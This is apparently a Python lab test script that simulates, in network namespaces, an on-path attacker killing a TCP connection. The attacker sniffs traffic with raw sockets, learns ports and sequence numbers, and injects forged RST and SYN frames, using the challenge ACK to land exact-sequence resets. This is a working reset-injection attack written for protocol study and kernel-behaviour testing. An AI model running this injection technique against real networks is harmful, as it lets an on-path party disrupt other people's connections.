#!/usr/bin/env python3
"""kill-connection-forged-rst: an on-path attacker in the relay namespace "mid" kills an
established connection. The client connects at 0 and sends "hello" at 0.1; the server accepts at
0, recv()s at 0.05 (gets "hello") and issues a second blocking recv() at 0.2; the client issues a
blocking recv() at 0.2. The attacker role runs in "mid" next to relay.py. It watches veth-ms
(AF_PACKET) to learn the MACs, the client's port and next seq. "mid" has no IP address, so
raw_send cannot route from there: the attacker builds each segment with build_tcp_ip and puts it
on the wire as an Ethernet frame with an AF_PACKET socket, straight onto veth-ms (towards the
server) or veth-mc (towards the client). These frames do not pass through the relay (no 20 ms
delay) and the client kernel never sees the ones sent to the server. Forged segments (no TCP
options, win 65535, with the client's 4-tuple unless said):
(a) 1.0: RST to the server, seq = client's next seq + 1000 (in window, not exact);
(b) 2.0: SYN to the server, seq = client's next seq + 5000; the attacker reads the server's
    challenge ACK on veth-ms;
(c) 2.5: RST to the server with seq = that challenge ACK's ack field, then RST to the client
    (server's 4-tuple) with seq = the challenge ACK's seq field.
Both hosts record their non-zero TcpExt/Tcp counters at 2.9 and close at 2.9. Capture until 3.0.
Run as root: python3 kill-connection-forged-rst.py"""
import socket
import struct
import os
import sys
import threading
import time
sys.path.insert(0, "/work/shared/tools/kernel-capture/lib")
from tcpconf import *  # noqa
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from capture_counters import counters  # noqa: E402

NAME = "kill-connection-forged-rst"
PORT = 8888
F_FIN, F_SYN, F_RST, F_ACK = 0x01, 0x02, 0x04, 0x10
PACKET_OUTGOING = 4




def server(ctx):
    ls = tcp_socket((SRV_IP, PORT))
    ls.listen(8)
    ls.settimeout(3)
    ctx.at(0.0)
    c = ctx.accept(ls)
    ls.close()
    if c:
        c.settimeout(None)                   # blocking (role bounded by its alarm)
        ctx.at(0.05)
        ctx.recv(c)                          # "hello" ~0.12
        ctx.at(0.2)
        ctx.recv(c)                          # ECONNRESET ~2.5 expected
        ctx.ev("tcp_info", **tcp_info_dict(c))
        ctx.at(2.9)
        counters(ctx, "at 2.9")
        ctx.close(c)
    ctx.at(3.0)


def client(ctx):
    s = tcp_socket((CLI_IP, 41000))
    ctx.at(0.0)
    if ctx.connect(s, (SRV_IP, PORT)):
        s.settimeout(None)
        ctx.at(0.1)
        ctx.send(s, b"hello")
        ctx.at(0.2)
        ctx.recv(s)                          # ECONNRESET ~2.5 expected
        ctx.ev("tcp_info", **tcp_info_dict(s))
        ctx.at(2.9)
        counters(ctx, "at 2.9")
        ctx.close(s)
    ctx.at(3.0)


def parse(frame):
    if len(frame) < 54 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    if ip[0] >> 4 != 4 or ip[9] != 6:
        return None
    ihl = (ip[0] & 0x0F) * 4
    total = struct.unpack("!H", ip[2:4])[0]
    tcp = ip[ihl:]
    sport, dport, seq, ack, offres, flags = struct.unpack("!HHIIBB", tcp[:14])
    return {"dmac": frame[0:6], "smac": frame[6:12], "src": socket.inet_ntoa(ip[12:16]),
            "dst": socket.inet_ntoa(ip[16:20]), "sport": sport, "dport": dport, "seq": seq,
            "ack": ack, "flags": flags, "len": total - ihl - (offres >> 4) * 4}


def attacker(ctx):
    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sn.bind(("veth-ms", 0))
    sn.settimeout(0.02)
    tx = {}
    for dev in ("veth-ms", "veth-mc"):
        t = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        t.bind((dev, 0))
        tx[dev] = t
    st = {"cmac": None, "smac": None, "cport": None, "c_isn": None, "s_isn": None,
          "c_next": None, "s_acks": []}
    lock = threading.Lock()
    stop = time.time() + 3.2 - ctx.now()

    def sniff():
        while time.time() < stop:
            try:
                frame, addr = sn.recvfrom(65536)
            except socket.timeout:
                continue
            p = parse(frame)
            if p is None:
                continue
            now = ctx.now()
            with lock:
                if p["src"] == CLI_IP and p["dport"] == PORT and addr[2] == PACKET_OUTGOING:
                    if p["flags"] & F_SYN and not p["flags"] & F_ACK and st["cport"] is None:
                        st["cport"], st["c_isn"] = p["sport"], p["seq"]
                        st["cmac"] = p["smac"]
                    if p["sport"] == st["cport"]:
                        end = (p["seq"] + p["len"] + (1 if p["flags"] & (F_SYN | F_FIN) else 0)) % (1 << 32)
                        if st["c_next"] is None or ((end - st["c_next"]) % (1 << 32)) < (1 << 31):
                            st["c_next"] = end
                elif p["src"] == SRV_IP and p["sport"] == PORT and addr[2] != PACKET_OUTGOING:
                    st["smac"] = p["smac"]
                    if p["flags"] & F_SYN:
                        st["s_isn"] = p["seq"]
                    if p["flags"] == F_ACK and p["len"] == 0:
                        st["s_acks"].append((now, p["seq"], p["ack"]))

    th = threading.Thread(target=sniff, daemon=True)
    th.start()

    def rel_c(x):
        return (x - st["c_isn"]) % (1 << 32)

    def rel_s(x):
        return (x - st["s_isn"]) % (1 << 32)

    def inject(event, dev, to_server, seq, flags):
        with lock:
            cport = st["cport"]
            if to_server:
                pkt = build_tcp_ip(CLI_IP, cport, SRV_IP, PORT, seq, 0, flags)
                frame = st["smac"] + st["cmac"] + b"\x08\x00" + pkt
            else:
                pkt = build_tcp_ip(SRV_IP, PORT, CLI_IP, cport, seq, 0, flags)
                frame = st["cmac"] + st["smac"] + b"\x08\x00" + pkt
            rel = rel_c(seq) if to_server else rel_s(seq)
        ctx.op(event, tx[dev].send, frame,
               describe=lambda r: {"flags": flag_str(flags), "seq_abs": seq, "seq_rel": rel,
                                   "to": "server" if to_server else "client", "dev": dev})

    def acks_since(t):
        with lock:
            return [a for a in st["s_acks"] if a[0] >= t]

    ctx.at(0.9)
    with lock:
        ctx.ev("learned", cport=st["cport"], c_isn=st["c_isn"], s_isn=st["s_isn"],
               c_next=st["c_next"], c_next_rel=rel_c(st["c_next"]) if st["c_next"] is not None else None,
               cmac=st["cmac"].hex() if st["cmac"] else None,
               smac=st["smac"].hex() if st["smac"] else None)
        ready = None not in (st["cport"], st["c_next"], st["cmac"], st["smac"])
    if not ready:
        ctx.ev("not-ready")
        return
    ctx.at(1.0)
    inject("forge-a-RST", "veth-ms", True, (st["c_next"] + 1000) % (1 << 32), F_RST)
    ctx.at(1.3)
    for t, seq, ack in acks_since(1.0):
        ctx.ev("seen-server-ack", t_seen=round(t, 6), seq_rel=rel_s(seq), ack_rel=rel_c(ack),
               seq_abs=seq, ack_abs=ack)
    ctx.at(2.0)
    inject("forge-b-SYN", "veth-ms", True, (st["c_next"] + 5000) % (1 << 32), F_SYN)
    challenge = None
    deadline = time.time() + 0.3
    while time.time() < deadline and challenge is None:
        a = acks_since(2.0)
        if a:
            challenge = a[0]
        else:
            time.sleep(0.001)
    if challenge is None:
        ctx.ev("no-challenge-ack-after-SYN")
        a = acks_since(1.0)
        if not a:
            return
        challenge = a[-1]
        ctx.ev("using-challenge-ack-from-a")
    t, seq, ack = challenge
    ctx.ev("challenge-ack", t_seen=round(t, 6), seq_rel=rel_s(seq), ack_rel=rel_c(ack),
           seq_abs=seq, ack_abs=ack)
    ctx.at(2.5)
    inject("forge-c-RST-to-server", "veth-ms", True, ack, F_RST)
    inject("forge-c-RST-to-client", "veth-mc", False, seq, F_RST)
    ctx.at(2.9)
    for t, seq, ack in acks_since(2.0)[1:]:
        ctx.ev("seen-server-ack", t_seen=round(t, 6), seq_rel=rel_s(seq), ack_rel=rel_c(ack))
    th.join(timeout=0.5)
    sn.close()
    for t in tx.values():
        t.close()


def orchestrate():
    run_case(NAME, __file__, [("server", SRV_NS), ("client", CLI_NS), ("attacker", MID_NS)],
             description=__doc__, role_timeout=4.0, extra_captures=[(CLI_NS, "veth-c")])


if __name__ == "__main__":
    entry({"client": client, "server": server, "attacker": attacker}, orchestrate)
